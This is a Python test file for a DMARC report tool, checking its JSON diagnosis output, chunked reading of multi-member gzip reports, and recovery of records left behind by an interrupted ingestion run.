def test_diagnose_cli_json_has_dmarc_findings(tmp_path: Path) -> None:
    db = _diag_store(tmp_path)
    res = runner.invoke(
        app, ["diagnose", "--db", str(db), "--since", "2026-01-01", "--format", "json"]
    )
    assert res.exit_code == 0, res.output
    problems = {f["problem"] for f in json.loads(res.stdout)}
    assert {
        "dmarc-own-servers",
        "dmarc-spoofing",
        "dmarc-forwarders",
        "dmarc-policy-ready",
    } <= problems


def test_gzip_is_read_in_chunks_from_disk(store: Store, tmp_path: Path) -> None:
    # a bare .xml.gz bigger than one read chunk, multi-member, streams through
    many = tuple(Rec(f"198.18.{i // 250}.{i % 250}", 1) for i in range(5000))
    xml = LAYOUTS["google"](sample(rid="chunked", records=many))
    cut = len(xml) // 2
    path = _write(tmp_path / "c.xml.gz", gzip.compress(xml[:cut]) + gzip.compress(xml[cut:]))
    res = _ingest(store, path)
    assert (res.dmarc_reports, res.dmarc_records) == (1, 5000)


def test_records_left_by_a_killed_run_are_replaced(store: Store, tmp_path: Path) -> None:
    many = tuple(Rec(f"203.0.113.{i % 250}", 1) for i in range(120))
    path = _write(tmp_path / "big.xml", LAYOUTS["google"](sample(rid="killed", records=many)))
    key = report_key("google.com", "killed")
    # a streamed report interrupted after its first batches: records without a head row
    store.con.execute(
        "INSERT INTO dmarc_record_log (report_key, position, source_ip, count, disposition) "
        "SELECT ?, i, '198.51.100.1', 1, 'none' FROM range(1, 61) t(i)",
        [key],
    )
    assert _q(store, "SELECT count(*) FROM dmarc_records") == [(0,)]  # not visible
    res = _ingest(store, path, stream_records=50)
    assert (res.dmarc_reports, res.dmarc_records) == (1, 120)
    assert _q(store, "SELECT count(*), count(DISTINCT position) FROM dmarc_record_log") == [
        (120, 120)
    ]
    assert _q(store, "SELECT count(*) FROM dmarc_records WHERE source_ip = '198.51.100.1'") == [
        (0,)
    ]
